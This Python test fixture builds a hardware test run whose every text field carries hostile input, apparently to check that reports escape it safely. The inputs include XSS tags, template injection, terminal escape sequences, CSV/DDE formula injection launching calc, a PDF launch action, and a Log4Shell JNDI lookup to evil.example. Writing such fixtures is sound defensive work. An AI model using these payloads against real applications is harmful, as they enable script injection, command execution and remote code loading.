# SPDX-License-Identifier: MIT
"""What a hostile board may say, and a run in which it says it everywhere."""

from __future__ import annotations

import dataclasses
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Final

from rig.events import Event, Scalar
from rig.evidence.measurement import Outcome
from rig.evidence.model import CaseResult, MeasurementResult, Run

SCRIPT: Final = "<script>document.title='owned';alert(1)</script>"
MARKUP: Final = (
    f"{SCRIPT}<img src=x onerror=alert(2)><svg onload=alert(3)><style>*{{display:none}}</style>"
    "<a href='javascript:alert(4)'>x</a><iframe src='https://evil.example/'></iframe>"
    "<link rel=stylesheet href='https://evil.example/x.css'>"
    "<meta http-equiv=refresh content='0;url=//evil.example'>"
)
SAID: Final = (
    MARKUP,
    "]]></style></script><script>alert(5)</script><!--",
    "{{ 7*7 }}{% raw %}{{ config }}",
    "\x1b[2J\x1b]0;owned\x07\x1b[31mred\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\u202eSSAP\u202c \u2066hidden\u2069 \u200bzero",
    "nul\0inside",
    "\udcff\udcfe not utf-8",
    '=HYPERLINK("https://evil.example";"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "/JavaScript (app.alert(1)) /OpenAction /Launch /URI (https://evil.example)",
    "[bold red]x[/bold red] [link=https://evil.example]y[/link]",
    "${jndi:ldap://evil.example/a}",
)
ENDLESS: Final = "A" * 1_000_000


def lines(path: Path) -> Iterator[tuple[int, str | bytes]]:
    """All of it as a console gives it, and one line of a megabyte."""
    del path
    for place, said in enumerate(SAID):
        yield place * 1000, said.encode("utf-8", "surrogateescape")
    yield 10_000_000, ENDLESS.encode()
    yield 10_000_001, b"the end of it"


def hostile_run(
    bare: Run, attempt: Callable[..., CaseResult], measure: Callable[..., MeasurementResult]
) -> Run:
    """A run whose board, cases, measurements, events and notes say each of these."""
    boards = tuple(
        dataclasses.replace(
            bare.boards[0],
            name=f"{name}{said}",
            dut=said,
            identity={said: said, "kernel": said, "emulated": True},
        )
        for name, said in (("a", SAID[0]), ("b", SAID[3]))
    )
    cases, rows, events = [], [], []
    for place, said in enumerate(SAID):
        board = boards[place % 2].name
        outcome = (Outcome.FAIL, Outcome.SKIPPED, Outcome.ERROR, Outcome.PASS)[place % 4]
        cases.append(
            attempt(said, outcome, f"{said}\n{said}", board=board, suite=said, started_ns=0, duration_s=0.02,
                    artifacts={said: bare.path / "artifacts" / "x"})
        )  # fmt: skip
        context: dict[str, Scalar] = {said: said, "size": 100, f"section {said}": 8, f"symbol {said}": 4}
        rows += [
            measure(said, [1, 2, 3], board=board, suite=said,
                    unit=said, upper=9.0, limit_origin=said, limit_at=said, note=said, context=context,
                    marginal=True, provisional=True, outcome=Outcome.PASS),
            measure(f"memory.region.{said}.used", [1], board=board, suite="memory", context=context),
            measure(f"memory.stack.{said}.unused", [1], board=board, suite="memory", context=context),
        ]  # fmt: skip
        events.append(Event(place * 1000, "probe", said, board, {said: said}))
    return dataclasses.replace(
        bare, boards=boards, cases=tuple(cases), measurements=tuple(rows), events=tuple(events),
        operator=MARKUP, environment={said: said for said in SAID}, complete=False, notes=SAID,
    )  # fmt: skip
